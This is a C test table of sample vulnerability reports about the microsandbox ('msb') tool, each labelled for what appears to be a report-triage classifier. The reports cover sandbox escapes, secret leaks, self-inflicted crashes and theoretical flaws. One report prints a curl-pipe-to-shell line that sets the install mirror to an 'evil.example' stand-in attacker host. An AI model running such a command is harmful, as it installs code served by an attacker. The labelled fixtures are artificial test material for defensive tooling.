	  "isolation boundary of its own, yet curl http://tenant-b:9000/ from tenant-a returns the\n"
	  "other tenant's admin page.", TRUE, "", "isolation_bypass" },
	{ "Isolation bypass between sandboxes",
	  "The documentation says a shared network is not a security boundary, fair enough, but this\n"
	  "also happens on the default network: with no --network at all, curl http://tenant-b:9000/\n"
	  "from tenant-a returns the other tenant's admin page.", TRUE, "", "isolation_bypass" },
	/* (issue #3) the attacker the writer grants is already the account
	 * that owns the secrets, or root: no boundary crossed; another user
	 * is one */
	{ "API keys of sandboxes readable in plain text",
	  "Malware on the laptop can run msb inspect --json and read every --secret value in clear\n"
	  "text. Admittedly the malware already has a shell as the logged-in user here, but I would\n"
	  "recommend keeping the values in the system keychain.", TRUE, "hardening", NULL },
	{ "Sandbox secrets readable by other accounts",
	  "A second unprivileged account on the build server can run msb inspect --json on my sandbox\n"
	  "and read every --secret value in clear text. Admittedly the attacker already has a shell as\n"
	  "another user on the box, but that user must never see my keys.", TRUE, "", "secret_leakage" },
	/* (issue #3) releases shipped without a signature or provenance, and
	 * the writer's word that nothing was tampered with: a missing
	 * safeguard, hardening; a signature that fails on a swapped asset is
	 * a finding */
	{ "Release zips carry nothing to verify",
	  "The zip files on the download page have no cosign signature and no build provenance, only a\n"
	  "checksum list uploaded next to them by the same job. I'm not claiming anything was tampered\n"
	  "with, it is a suggestion: sign the checksum list.", FALSE, "hardening", NULL },
	{ "Release asset swapped after publication",
	  "The x86_64 tarball of the last release was replaced a week after it went out: its sha256 no\n"
	  "longer matches what our mirror stored and minisign -Vm fails against the published key.",
	  TRUE, "", "supply_chain" },
	{ "Installer takes the sums from the mirror it downloads from",
	  "install.sh fetches the tarball and its checksum list from the same mirror and does no\n"
	  "signature check, against best practice, so whoever controls that mirror serves a binary\n"
	  "that installs cleanly:\n"
	  "    curl -fsSL https://get.example/install.sh | MSB_MIRROR=https://evil.example sh",
	  TRUE, "", ANY_CLASS },
	/* (#3) the writer's list denied as a whole ("none of the following
	 * is an exploitable vulnerability") and the short word "(not a
	 * vuln)": hardening and no class; "vulnerable" is not the word */
	{ "Notes on the release key",
	  "None of the following is an exploitable vulnerability, only things I noticed while\n"
	  "verifying 0.11.4: the release key is RSA 2048 without an expiry and the binding signature\n"
	  "uses SHA-1. Suggestion: a signing subkey with an expiry.", FALSE, "hardening", NULL },
	{ "Signing key has no expiry (not a vuln)",
	  "The key that signs the checksum list never expires and signs with the primary key. I\n"
	  "would suggest a subkey that you rotate.", FALSE, "hardening", NULL },
	{ "Guest writes host files through the share",
	  "This is not a vulnerable-by-design option you have to enable: with the default share the\n"
	  "guest creates /etc/cron.d/x on the host through a symlink, the script is attached.",
	  TRUE, "", "sandbox_escape" },
	/* (#3) a drive, a locked screen, a lent iPad in someone else's
	 * hands (rounds 257, 258, 262) */
	{ "secrets in plain text on retired disks",
	  "The secrets msb keeps are stored unencrypted in secrets.db on the host disk. Anyone who gets hold of a\n"
	  "drive like this, as we did, can read these secrets. The commands we ran are below.",
	  TRUE, "physical_access", ANY_CLASS },
	{ "msb run --notify shows output on the lock screen",
	  "msb run --notify puts the job's last output line in the notification, so my coworker read the\n"
	  "STRIPE_SECRET_KEY off my locked screen. To repro: msb run --notify alpine -- echo TOKEN=abc.",
	  TRUE, "physical_access", ANY_CLASS },
	{ "cloud console web app keeps secrets after logout",
	  "I logged out of the console web app because I was lending the iPad to my son; offline it still\n"
	  "shows the secret values I had revealed. Steps: reveal, log out, airplane mode, open the app.",
	  TRUE, "physical_access", ANY_CLASS },
	/* (#3) an updater that installs an unsigned binary is a finding,
	 * not releases left unsigned (round 257) */
	{ "msb self-update installs an unsigned binary if the .minisig is missing",
	  "When the .minisig download 404s, msb self-update prints a warning and installs the tarball\n"
	  "anyway, so whoever serves the mirror gets their binary installed. Output below.",
	  TRUE, "", ANY_CLASS },
	/* (#3) no KVM machine to run it on; an AI code audit's finding
	 * reviewed by hand, not run (round 255) */
	{ "virtio-blk overflow",
	  "An integer overflow in the virtio-blk parser of msb-vmm leads to a heap overflow and a VM escape.\n\n"
	  "I have not been able to reproduce this as I do not have a Linux machine with KVM.",
	  FALSE, "theoretical", ANY_CLASS },
	{ "virtio-blk overflow",
	  "An AI-assisted code audit of msb-vmm found that an integer overflow in the virtio-blk parser\n"
	  "leads to a heap overflow and a VM escape. I have not tested it, but the logic looks correct to me.",
	  FALSE, "theoretical", ANY_CLASS },
	{ "virtio-blk overflow",
	  "An integer overflow in the virtio-blk parser of msb-vmm leads to a heap overflow and a VM escape.\n"
	  "I ran it on a machine with KVM: the host VMM crashed, the script is attached.",
	  TRUE, "", ANY_CLASS },
	/* (issue #3) no time to verify a scanner's findings: theoretical */
	{ "Static analysis findings in msb-fsd",
	  "Our code scanner flagged a tainted path join in msb-fsd that might let a guest open files\n"
	  "outside its share. We have not had the time to verify it and have no PoC.",
	  FALSE, "theoretical", ANY_CLASS },
	/* (#3) a model checker's finding: not reproduced, and no
	 * reproduction of the kind it would need written: theoretical; the
	 * same words with a reproduction run are none */
	{ "virtio-net length check wraps",
	  "Our model checker found that the rx length check in msb-vmm wraps, so a guest could write\n"
	  "past its buffer into the next sandbox's ring. We have not reproduced it on a live VM and\n"
	  "have not written a driver-side reproduction.", FALSE, "theoretical", ANY_CLASS },
	{ "virtio-net length check wraps",
	  "The rx length check in msb-vmm wraps, so a guest writes past its buffer into the next\n"
	  "sandbox's ring. Our driver-side reproduction is attached and corrupts the neighbour every run.",
	  TRUE, "", ANY_CLASS },
	/* (issue #3) a packager's patch that narrows capabilities, with no
	 * way to exploit the state shown: hardening, and no class; the same
	 * words of a report with a real attack stay out of it */
	{ "msb-netd keeps CAP_SYS_ADMIN",
	  "msb-netd runs with CAP_SYS_ADMIN although it only needs CAP_NET_ADMIN. I don't have a way\n"
	  "to exploit this: it only matters if netd gets compromised some other way first, so consider\n"
	  "the attached change.", FALSE, "hardening", NULL },
	{ "Helper could drop privileges",
	  "We see no way to abuse it today, it would only become a problem once an attacker already has\n"
	  "code execution in the helper.", FALSE, "hardening", ANY_CLASS },
	{ "Guest reaches host root through netd",
	  "A guest that sends a crafted netlink message makes msb-netd run its command as root on the\n"
	  "host: I escaped to the host and wrote /root/pwned, the full exploit is attached.", TRUE, "",
	  ANY_CLASS },
	/* (issue #3) a flaw read in the code and never run, told in plain
	 * words: theoretical */
	{ "Possible traversal in cp",
	  "I was reading the source of msb cp and the tar names from the guest are joined to the\n"
	  "destination without a check. I did not test it, because I do not know how to make agentd\n"
	  "send a crafted archive.", FALSE, "theoretical", ANY_CLASS },
	{ "Traversal in cp",
	  "From the code it looks like the tar names from the guest are joined unchecked; I haven't\n"
	  "verified it, I don't have a setup to test it.", FALSE, "theoretical", ANY_CLASS },
	/* (#3) the exploit the claim rests on never run by the writer:
	 * theoretical; not run only against some particular target is none */
	{ "Guest to host escape via nested virtualization",
	  "The guest sees the vmx flag and my host kernel predates the KVM fix, so a guest could take\n"
	  "over the host. We did not actually run the public PoC; the preconditions are all there.",
	  FALSE, "theoretical", ANY_CLASS },
	{ "Guest to host escape via nested virtualization",
	  "The guest sees the vmx flag and my host kernel predates the KVM fix. I did not run the\n"
	  "exploit against our production hosts, but it worked on a spare box.", FALSE, "", ANY_CLASS },
	/* a fuzzer's crash whose output shows a safe-language panic (libFuzzer's
	 * "deadly signal" after "attempt to add with overflow", Go's "Failing
	 * input written to testdata/fuzz") is a self-DoS however it is sold
	 * (1650); a sanitizer's heap-buffer-overflow stays a finding, and a
	 * panic that takes the shared server down for every tenant is none */
	{ "Critical RCE in the layer index parser",
	  "Fuzzing the tar header parser with cargo fuzz gives a critical remote code execution:\n"
	  "thread '<unnamed>' panicked at crates/msb-image/src/tar.rs:88:17:\n"
	  "attempt to add with overflow\n==811== ERROR: libFuzzer: deadly signal\n"
	  "SUMMARY: libFuzzer: deadly signal\n", TRUE, "self_dos", NULL },
	{ "Kritische Speicherkorruption im Config-Parser",
	  "Beim Fuzzen des Config-Parsers mit go test -fuzz st\u00fcrzt der Prozess ab:\n"
	  "panic: runtime error: index out of range [3] with length 3\n"
	  "Failing input written to testdata/fuzz/FuzzParseConfig/1b9c0e\n", TRUE, "self_dos", NULL },
	{ "Heap overflow in the manifest parser",
	  "cargo fuzz run on the manifest parser:\n"
	  "==4411==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x602000000031\n"
	  "WRITE of size 8 at 0x602000000031 thread T0\n"
	  "SUMMARY: libFuzzer: deadly signal\n", TRUE, "", ANY_CLASS },
	{ "Server panic on a crafted manifest",
	  "A crafted manifest sent to msb server makes it panic (libFuzzer: deadly signal in my "
	  "harness), and the server goes down for all tenants until someone restarts it.",
	  TRUE, "", ANY_CLASS },
	/* a crash the writer sets apart from a self-DoS ("rather than
	 * self-DoS", "instead of a mere self-DoS") is none (1482); one called
	 * a self-DoS still is */
	{ "Guest frame aborts the network helper",
	  "One crafted frame from any sandbox aborts msb-netd, so every sandbox on the machine "
	  "loses its network: an outage for all tenants rather than self-DoS.", TRUE, "", ANY_CLASS },
	{ "Guest frame aborts the network helper",
	  "One crafted frame aborts msb-netd and all sandboxes lose the network, which is a shared "
	  "outage instead of a mere self-DoS.", TRUE, "", ANY_CLASS },
	{ "Sandbox hangs on a huge write",
	  "Writing 20 GB to /dev/null in a loop hangs the sandbox; it is a self-DoS, the other "
	  "sandboxes are unaffected.", TRUE, "self_dos", NULL },
	/* (#3) in Amharic: the others and the host untouched; the others
	 * stopping too is no self-DoS */
	{ "memory bomb",
	  "በsandbox ውስጥ ፕሮግራሙ out of memory ሲሆን ያ sandbox ይቆማል። ሌሎቹ sandboxዎችና አስተናጋጁ አልተነኩም።",
	  TRUE, "self_dos", NULL },
	{ "memory bomb",
	  "በsandbox ውስጥ ፕሮግራሙ out of memory ሲሆን ያ sandbox ይቆማል። ሌሎች sandboxዎችም ቆመዋል፣ ሆስቱም ይቆማል።",
	  TRUE, "", ANY_CLASS },
	/* (#3) the harm kept to whoever causes it, and the others untouched,
	 * in other words and languages; a crash that reaches others is none */
	{ "CLI crash on a huge manifest",
	  "msb crashes on a 40 MB manifest before any sandbox starts. Whoever writes such a manifest "
	  "only takes down himself.", TRUE, "self_dos", NULL },
	{ "Absturz bei riesiger Datei",
	  "msb st\xc3\xbcrzt ab, wenn die Datei riesig ist; wer das tut, schadet nur sich selbst.", TRUE,
	  "self_dos", NULL },
	{ "\xd0\x9f\xd0\xb0\xd0\xb4\xd0\xb5\xd0\xbd\xd0\xb8\xd0\xb5 msb",
	  "msb \xd0\xb7\xd0\xb0\xd0\xb2\xd0\xb8\xd1\x81\xd0\xb0\xd0\xb5\xd1\x82 \xd0\xbd\xd0\xb0 \xd0\xb1\xd0\xbe\xd0\xbb\xd1\x8c\xd1\x88\xd0\xbe\xd0\xbc \xd1\x84\xd0\xb0\xd0\xb9\xd0\xbb\xd0\xb5. "
	  "\xd0\x94\xd1\x80\xd1\x83\xd0\xb3\xd0\xb8\xd0\xb5 \xd0\xbf\xd0\xb5\xd1\x81\xd0\xbe\xd1\x87\xd0\xbd\xd0\xb8\xd1\x86\xd1\x8b \xd0\xbd\xd0\xb5 \xd0\xb7\xd0\xb0\xd1\x82\xd1\x80\xd0\xbe\xd0\xbd\xd1\x83\xd1\x82\xd1\x8b.",
	  TRUE, "self_dos", NULL },
	/* (#3) only the writer's own X, whatever X is, in other languages,
	 * and the others carrying on; another tenant hit is no self-DoS */
	{ "SDK: kein Timeout bei exec()",
	  "Eine Endlosschleife im Gast blockiert exec() für immer. Betroffen ist nur mein eigener "
	  "Job-Runner; alles andere auf dem Server bleibt normal.", TRUE, "self_dos", NULL },
	{ "SDK zonder time-out",
	  "Een oneindige lus in de gast laat de aanroep nooit terugkeren; alleen mijn eigen worker "
	  "blijft hangen.", TRUE, "self_dos", NULL },
	{ "exec() sin tiempo límite",
	  "Con un bucle infinito la llamada nunca vuelve. Solo mi propio proceso queda colgado, "
	  "los otros sandboxes siguen funcionando.", TRUE, "self_dos", NULL },
	/* (#3) the others or the host said to be unaffected, in Spanish,
	 * Portuguese and Italian; the host going down too, or a host "not
	 * protected", is none */
	{ "La sandbox se cuelga con un bucle",
	  "Un script con un bucle infinito llena la memoria y esa sandbox deja de responder. Las "
	  "demás sandboxes siguen funcionando y mi portátil no se ve afectado.", TRUE, "self_dos", NULL },
	{ "Sandbox trava ao encher o disco",
	  "Se o convidado enche o disco, a sandbox trava e para de responder; não afeta o host, "
	  "e as outras sandboxes continuam normais.", TRUE, "self_dos", NULL },
	{ "La sandbox si blocca",
	  "Un ciclo infinito nel guest blocca la sandbox e msb non risponde più; l'host non ne "
	  "risente e le altre sandbox funzionano.", TRUE, "self_dos", NULL },
	/* issue #3: the other sandboxes keep running with words between
	 * ("on my laptop"), only this one dies, and "only my own sandbox" in
	 * Chinese with 我自己的; the others stopping too is none */
	{ "Guest memory fill kills the VM",
	  "Filling /dev/shm in the guest runs it out of memory. The other sandboxes on my laptop keep "
	  "running, only this one dies.", TRUE, "self_dos", NULL },
	{ "\xe5\x86\x85\xe5\xad\x98\xe8\x80\x97\xe5\xb0\xbd",
	  "\xe5\x9c\xa8 guest \xe9\x87\x8c\xe5\x86\x99\xe6\xbb\xa1 tmpfs \xe4\xbc\x9a\xe8\xae\xa9"
	  "\xe6\xb2\x99\xe7\xae\xb1\xe5\xb4\xa9\xe6\xba\x83\xef\xbc\x8c\xe4\xbd\x86\xe5\x8f\xaa\xe5\xbd\xb1"
	  "\xe5\x93\x8d\xe6\x88\x91\xe8\x87\xaa\xe5\xb7\xb1\xe7\x9a\x84\xe6\xb2\x99\xe7\xae\xb1\xef\xbc\x8c"
	  "\xe5\xae\xbf\xe4\xb8\xbb\xe6\x9c\xba\xe4\xb8\x8d\xe5\x8f\x97\xe5\xbd\xb1\xe5\x93\x8d\xe3\x80\x82",
	  TRUE, "self_dos", NULL },
	{ "Guest fill stops every sandbox",
	  "Filling /dev/shm in the guest runs it out of memory; the other sandboxes on my laptop do "
	  "not keep running either.", TRUE, "", ANY_CLASS },
	{ "El host se cuelga",
	  "Un bucle infinito en la sandbox deja de responder y el host también se queda colgado; "
	  "el host no está protegido.", TRUE, "", ANY_CLASS },
	{ "exec() bez limitu czasu",
	  "Nieskończona pętla w gościu blokuje wywołanie; dotyka to tylko mój własny proces.", TRUE,
	  "self_dos", NULL },
	{ "Blocage de l'hôte",
	  "Une boucle infinie dans un invité bloque le démon : les sandboxes des autres clients "
	  "s'arrêtent aussi et l'hôte ne répond plus.", TRUE, "", ANY_CLASS },
	{ "Daemon crash",
	  "One sandbox's request crashes msbd and the other users' sandboxes all stop with it.", FALSE,
	  "", ANY_CLASS },
	/* a script the writer calls a sketch and never ran (#3) */
	{ "Token reuse across sandboxes in the gateway",
	  "The script below is only illustrative; it was never run against a real gateway, so "
	  "the names of the calls may be wrong. A sandbox that replays another sandbox's token "
	  "could reach that sandbox's secrets.", FALSE, "theoretical", "isolation_bypass" },
	/* missing build mitigations, and the writer found no bug to exploit
	 * with them, however grave the impact paragraph sounds (#3) */
	{ "msb shipped without stack protector",
	  "The release msb executable is built without stack protector and has partial RELRO. "
	  "An attacker with a heap overflow could then get code execution on the host and a full "
	  "sandbox escape. I have not yet found an exploitable overflow in msb itself.", TRUE,
	  "hardening", NULL },
	/* ... "no other bug" leaves the reported one standing */
	{ "Sandbox escape through the virtio-fs broker",
	  "A guest can write files on the host outside the share through a symlink race in the "
	  "filesystem broker; it is a full sandbox escape. I have not found any other bug in the "
	  "broker.", TRUE, "", "sandbox_escape" },
	{ "Parser de frames",
	  "Em teoria um frame maior que o limite poderia escapar do buffer; não testei nada disto.", FALSE,
	  "theoretical", NULL },
	{ "DoS: guest fork bomb makes my sandbox unresponsive",
	  "A fork bomb in the guest hangs only the same sandbox; the host stays fine.", TRUE,
	  "self_dos", NULL },
	{ "python sdk: long output kills the host process",
	  "A guest printing one endless line makes the SDK run out of memory. The host itself stays up\n"
	  "and other sandboxes keep running; only my own script dies.", TRUE, "self_dos", NULL },
	/* round 36: the caller's memory told as a MemoryError or a process
	 * growing until the OS kills it */
	{ "Python SDK exec() keeps all output in memory",
	  "A guest printing 3 GB makes my Python process grow until Windows kills it (MemoryError\n"
	  "first). Only my own script dies; the sandbox and the host are fine.", TRUE, "self_dos", NULL },
	{ "Guest can panic the host",
	  "A crafted virtio request causes a kernel panic on the host and takes down every sandbox.\n"
	  "That is a denial of service for all tenants.", TRUE, "", NULL },
	{ "Hardening suggestions",
	  "Some defence-in-depth ideas; none of these is an exploitable vulnerability.\n"
	  "1. Enable the restricted profile by default. 2. Deny-by-default egress.", FALSE,
	  "hardening", NULL },
	{ "Possible sandbox escape (unverified)",
	  "Reading the code I think the length check is missing; this could in theory let a guest\n"
	  "escape the sandbox. I haven't been able to test it and have no PoC.", FALSE,
	  "theoretical", "sandbox_escape" },
	{ "Possible sandbox escape (unverified)",
	  "Reading the code I think the length check is missing; this could in theory let a guest\n"
	  "escape the sandbox. I haven't been able to test it and have no PoC.", TRUE,
	  "", "sandbox_escape" },
	{ "Vulnerable dependency",
	  "cargo audit reports RUSTSEC-2024-0421 for the idna crate, a transitive dependency.\n"
	  "I have not written a PoC.", FALSE, "upstream", NULL },
	/* the class it claims, as the devset's 23: reading what is on the
	 * disk is a leak (29 of the held-out set's 33 physical-access
	 * reports are labelled secret_leakage) */
	{ "Disk contents readable without login",
	  "An attacker with physical access to the laptop can boot from a USB stick and read the\n"
	  "sandbox images.", FALSE, "physical_access", "secret_leakage" },
	{ "Crash of msb with a malformed image",
	  "Pulling a crafted OCI image makes msb panic with index out of bounds. Only my own pull is\n"
	  "affected.", TRUE, "self_dos", NULL },
	/* the class it would have if valid, as devset 24's (a filesystem
	 * race: sandbox escape), here from the word model */
	{ "Potential race in the filesystem broker",
	  "I think there might be a TOCTOU race when resolving paths. I did not try to exploit it and\n"
	  "have no PoC; it may not be exploitable.", FALSE, "theoretical", "sandbox_escape" },
	{ "OpenSSL CVE in a bundled library",
	  "microsandbox bundles OpenSSL 3.0.1 which has CVE-2022-3602, a known vulnerability in the\n"
	  "upstream library.", FALSE, "upstream", NULL },
	/* (round 245) a public advisory named as such, ANSI escapes that
	 * "escape from the guest" only in name, "nothing gets out of the vm" */
	{ "ansi escapes from guest os-release in msbd log (known tracing-subscriber bug)",
	  "its the public tracing-subscriber advisory (RUSTSEC-2025-0055 / CVE-2025-58160, fixed in 0.3.20) but the\n"
	  "v0.12.3 tag still locks 0.3.19. only a terminal thing, nothing gets out of the vm afaict", TRUE,
	  "upstream", NULL },
	/* (round 266) the runtime's known bug by the writer's own reading,
	 * fixed in a newer release of it */
	{ "download_dir writes outside the folder on Python 3.12.10",
	  "It might be Python's fault and not microsandbox's: tarfile's CVE-2025-4517 lets\n"
	  "extractall(filter=\"data\") write outside the destination, and with Python 3.12.11 nothing\n"
	  "is written. So microsandbox only needs a new enough Python.", TRUE, "upstream", "sandbox_escape" },
	/* (round 268) people who panicked, no process that did */
	{ "restored snapshot shares inodes with the original",
	  "He restored one of my snapshots as his own sandbox and his edits show up in my running sandbox, so\n"
	  "whoever restores your snapshot writes into your live sandbox. It is deleted now (we panicked).", FALSE, "",
	  "snapshot_leak" },
	/* (round 268) someone who walked up to the writer's locked PC */
	{ "msb attach on a text console survives the GNOME lock screen",
	  "My flatmate walked up to my locked PC, pressed ctrl+alt+f3 and was sitting in the root shell of my\n"
	  "sandbox, where env shows the secrets.", FALSE, "physical_access", NULL },
	{ "Escape sequences from the guest reach my terminal",
	  "Whether this is a bug in the sandbox or the terminal is arguably a matter of taste, but an\n"
	  "opt-in output filter seems worth considering.", TRUE, "hardening", NULL },
	{ "Guest kernel panic with a crafted ELF",
	  "Running this binary in the sandbox makes the guest kernel panic; it only affects the\n"
	  "sandbox itself, other sandboxes stay responsive.", TRUE, "self_dos", NULL },
	{ "Missing SPF record for superrad.company",
	  "Your domain has no DMARC record and missing security headers on the website; best practice\n"
	  "is to add them.", FALSE, "hardening", NULL },
	/* a public kernel exploit that gives root inside one's own guest
	 * (1607): the writer says nothing outside the guest was reached, and
	 * the fix exists upstream; a guest that goes on to write host files
	 * did not stay inside it */
	{ "Guest kernel in 0.10 has a public nf_tables exploit",
	  "The kernel shipped for the guest is old: the public exploit for CVE-2024-1086 takes our\n"
	  "uid 1000 user to root inside our own guest. We were unable to reach anything outside of the\n"
	  "guest with it, and the patch has landed upstream long ago.", TRUE, "upstream", NULL },
	/* (2341, 2416) the same told as root "only inside the sandbox", "in-guest
	 * privilege escalation", with no way out found: no class, whatever the
	 * exploit's words; without the guest-only words the class stays */
	{ "Bundled guest kernel 6.6.10 and CVE-2024-1086",
	  "The guest kernel is 6.6.10, before the upstream fix. With the public exploit for\n"
	  "CVE-2024-1086 an unprivileged user gets a root shell, but I only got root inside the\n"
	  "sandbox and did not find a way out of the VM. Please bump the kernel in the next release.",
	  TRUE, "upstream", NULL },
	{ "Finding 4: in-guest privilege escalation via a known kernel bug",
	  "Risk: medium. The bundled guest kernel predates the fix for CVE-2024-1086 (fixed upstream in\n"
	  "6.6.15). We looked for a path from guest root to the host for a day and did not find one,\n"
	  "and we are not claiming a sandbox escape.", TRUE, "upstream", NULL },
	{ "Guest writes host cron files",
	  "From root inside the guest, a crafted FUSE_SETATTR lets the guest overwrite files on the\n"
	  "host (/etc/cron.d/job), so it did not stay inside the guest: the job runs as root there.", TRUE, "",
	  "sandbox_escape" },
	{ "libkrun bug already fixed upstream",
	  "microsandbox 0.6.14 ships libkrun 1.9 with a bug that was already fixed upstream in 1.10;\n"
	  "please bump.", FALSE, "upstream", NULL },
	/* (1747) an upstream reading taken back: the writer first blames a
	 * dependency's old bug, then finds the project does the work itself;
	 * an upstream bug said to be upstream's, or not the project's, stays
	 * a hint */
	{ "Zip extraction writes outside the target (old zip crate bug?)",
	  "I first suspected the old zip crate traversal bug, an outdated dependency. But Cargo.lock\n"
	  "has the fixed zip, and the loop joins the entry names itself, so it is your bug, not the\n"
	  "zip crate's.", TRUE, "", ANY_CLASS },
	{ "Image unpack follows links (known crate issue?)",
	  "This looked like a known vulnerability in the crate, fixed upstream. Turns out it is not a\n"
	  "tar-rs bug at all: msb builds the paths on its own.", TRUE, "", ANY_CLASS },
	{ "Image unpack follows links",
	  "This is not an upstream issue: the outdated dependency was already bumped and Cargo.lock\n"
	  "shows the fixed version; msb's own loop skips the check.", TRUE, "", ANY_CLASS },
	{ "Outdated tar crate",
	  "It is an upstream bug, not yours: the outdated dependency tar 0.4.10 in Cargo.lock has\n"
	  "the known traversal issue, fixed upstream in 0.4.16.", TRUE, "upstream", ANY_CLASS },
	{ "Outdated tar crate",
	  "It is not your bug: cargo audit flags the vulnerable dependency tar 0.4.10, already fixed\n"
	  "upstream in 0.4.16.", TRUE, "upstream", ANY_CLASS },
	/* (1748) a speculative-execution attack argued from a setting, no
	 * exploit tried: theoretical */
	{ "Cross-VM side channel because of a boot flag",
	  "With the guest's SMT left on, one sandbox could in principle read another's secrets via\n"
	  "L1TF. I have not tried to build an exploit.", FALSE, "theoretical", ANY_CLASS },
	/* (#3) an exploit more than a sketch not yet tried, the other side not
	 * known to be made to act, an attack not built for want of a second
	 * account: theoretical; a shown attack that only lacks a longer chain,
	 * or a writer unsure how to make it worse, is not (the last two
	 * without the PoC item too: the reading of the code and the "might"
	 * beside them would reach the minimum with one more pattern) */
	{ "Host code execution through the reply decoder",
	  "The Node SDK evals the JSON reply that agentd returns, so a hostile guest could run code in\n"
	  "the host process. I haven't tried to build a real exploit yet, and I'm not sure how to make\n"
	  "agentd return a reply of that shape.", FALSE, "theoretical", ANY_CLASS },
	{ "Cache timing between two customers' sandboxes",
	  "Sandboxes of two customers may share one physical core, so one could leak the other's keys\n"
	  "through the L1 cache. I have not built a working attack, since I don't have a second account\n"
	  "to test with.", FALSE, "theoretical", ANY_CLASS },
	{ "Guest reads host files through the share",
	  "From the code it looks like the share follows symlinks: a guest replaces a shared file with a\n"
	  "symlink and reads /etc/shadow on the host, it might be worse with a second step. I haven't\n"
	  "tried a full chain yet.", FALSE, "", ANY_CLASS },
	{ "Guest reads host files through the share",
	  "From the code it looks like the share follows symlinks, and it might be worse than that. I'm\n"
	  "not sure how to make it worse, but here is the PoC that reads /etc/shadow on the host from\n"
	  "the guest.", FALSE, "", ANY_CLASS },
	{ "Guest reads host files through the share",
	  "A guest replaces a shared file with a symlink and reads /etc/shadow on the host; the PoC\n"
	  "below does it every time. I haven't tried a full chain yet.", TRUE, "", "sandbox_escape" },
	{ "Data on a stolen laptop",
	  "If my laptop is stolen, the thief can read the sandbox disks.", FALSE, "physical_access", NULL },
	/* round 42: the owner's machine left open for whoever comes by */
	{ "Anyone at our front desk can see the members list",
	  "I went to the back and left the laptop open. A member typed msb exec and read the list.\n"
	  "So anyone standing at the desk can see all our members' details.", TRUE, "physical_access", NULL },
	/* (#3) a DMA attack needs someone at the hardware: a DMA card, an FPGA
	 * board in a slot, Thunderbolt DMA, "a few minutes at the machine";
	 * a guest's own virtual device DMA, or a NIC passed through, is none */
	{ "Guest keys in RAM over Thunderbolt",
	  "Plugging a Thunderbolt DMA dongle into the Mac mini lets me read the microVM's memory and the\n"
	  "token it holds.", TRUE, "physical_access", ANY_CLASS },
	{ "Sandbox secrets from a memory dump",
	  "With an FPGA board in a spare PCIe slot and pcileech I dumped RAM and found the API token.\n"
	  "An attacker needs only a few minutes at the server.", TRUE, "physical_access", ANY_CLASS },
	{ "Guest writes host memory through virtio",
	  "A guest can program the virtio block device so its DMA writes land in host memory outside\n"
	  "the queue buffers, and from there it runs code on the host.", TRUE, "", ANY_CLASS },
	{ "Passed-through NIC reaches host RAM",
	  "We pass a PCIe NIC through to the guest with VFIO; the guest's DMA reaches host RAM because\n"
	  "the IOMMU group is shared with the host's disk controller.", TRUE, "", ANY_CLASS },
	{ "Disk exhaustion in sandbox",
	  "Writing to /tmp in the guest until the disk is full makes the sandbox crash. Only my sandbox\n"
	  "is affected.", TRUE, "self_dos", NULL },
	{ "ערוץ צדדי בין sandboxes",
	  "sandbox אחד יכול לשחזר מפתחות מ-sandbox שכן. לא בניתי PoC עובד, זה ניתוח תיאורטי בלבד.",
	  /* (#3) "between sandboxes" read in Hebrew too: the class of its
	   * English twin below */
	  FALSE, "theoretical", "isolation_bypass" },
	{ "Possible Spectre v2 leak between sandboxes",
	  "A side channel could leak secrets between sandboxes. I haven't built a PoC, this is\n"
	  "theoretical.", FALSE, "theoretical", "isolation_bypass" },
	{ "Sandbox escape without user interaction",
	  "No physical access or user interaction is required; a guest writes host files through a\n"
	  "symlink in the share.", TRUE, "", "sandbox_escape" },
	{ "Secret leak, not theoretical",
	  "This is not just theoretical: the credentials leak into the guest environment.  I have not\n"
	  "been able to test it on macOS.", FALSE, "", "secret_leakage" },
	{ "Sandbox escape through the shared folder, and a hardening idea",
	  "The guest writes host files through a symlink in the share.  Separately, as defence in\n"
	  "depth, the broker could drop privileges.", TRUE,
	  "hardening", "sandbox_escape" },
	/* a hardening idea the writer sets apart as an aside ([aside.minor])
	 * beside a real finding does not make the report out of scope (1541,
	 * 126; as 533 and 1110 were labelled); named in the subject (above),
	 * alone, or in the body of the report, it still does */
	{ "Sandbox escape through the shared folder",
	  "The guest writes host files through a symlink in the share.  Separately, as defence in\n"
	  "depth, the broker could drop privileges.", TRUE,
	  "", "sandbox_escape" },
	{ "Guest reads other sandboxes' volumes",
	  "Any sandbox can mount the volume of another sandbox by guessing its id; the PoC below\n"
	  "reads a file another tenant wrote.\n\n"
	  "One more, much smaller thing: the volume ids are sequential. Probably just hardening,\n"
	  "I could not abuse it on its own.", TRUE, "", "isolation_bypass" },
	{ "Two findings: socket shared between sandboxes, log verbosity",
	  "Sandbox A connects to the control socket of sandbox B and runs commands in it.\n\n"
	  "Problem 2 (minor): verbose logs\n\n"
	  "The debug log names every mounted path. Not a vulnerability, more of a best practice\n"
	  "suggestion.", TRUE, "", "isolation_bypass" },
	{ "Gast schreibt Dateien des Hosts",
	  "Der Gast schreibt \xc3\xbc""ber einen Symlink im geteilten Ordner Dateien auf dem Host.\n\n"
	  "Nebenbei bemerkt: als Defense in Depth k\xc3\xb6nnte der Broker Rechte abgeben.", TRUE,
	  "", "sandbox_escape" },
	/* near misses: an aside marker in a report with no finding leaves the
	 * hardening hint standing; "one thing I noticed" opens the report */
	{ "Suggestions for msb",
	  "As defence in depth, msb could run the VMM as its own user.\n\n"
	  "Separately, as an aside, the socket could be 0600. Neither is exploitable.", FALSE,
	  "hardening", NULL },
	{ "Sandbox escape through the shared folder",
	  "One thing I noticed: the guest writes host files through a symlink in the share.\n"
	  "I'm aware the manual says the share \"must never be used with untrusted workloads\".\n"
	  "Still, as defence in depth the broker could refuse symlinks.", TRUE,
	  "hardening", "sandbox_escape" },
	{ "Sandbox escape via symlink",
	  "The guest writes files on the host through a symlink in the shared directory.\n"
	  "I have not written a separate PoC script, the commands are below.\n"
	  "Suggested fix: use openat2.", TRUE, "", "sandbox_escape" },
	/* a class the subject names does not outweigh "treat this as a hardening
	 * suggestion" without a PoC ([classify] class_keep_needs); with one it does */
	{ "msb server prints its API key by default",
	  "Neither is an exploitable vulnerability as far as I can tell; please treat this as a\n"
	  "hardening suggestion.", FALSE, "hardening", NULL },
	{ "msb server prints its API key by default",
	  "Neither is an exploitable vulnerability as far as I can tell; please treat this as a\n"
	  "hardening suggestion.", TRUE, "hardening", "secret_leakage" },
	{ "Critical Vulnerability Found - Bounty?",
	  "Clickjacking: your website does not send X-Frame-Options.\n"
	  "Please let me know the bounty amount before I share more.", TRUE, "hardening", NULL },
	/* round 16: an image that fills the host's disk and breaks the other
	 * sandboxes is no self-DoS, and the typo-squatted tag that lures a
	 * user into pulling it is no supply-chain claim */
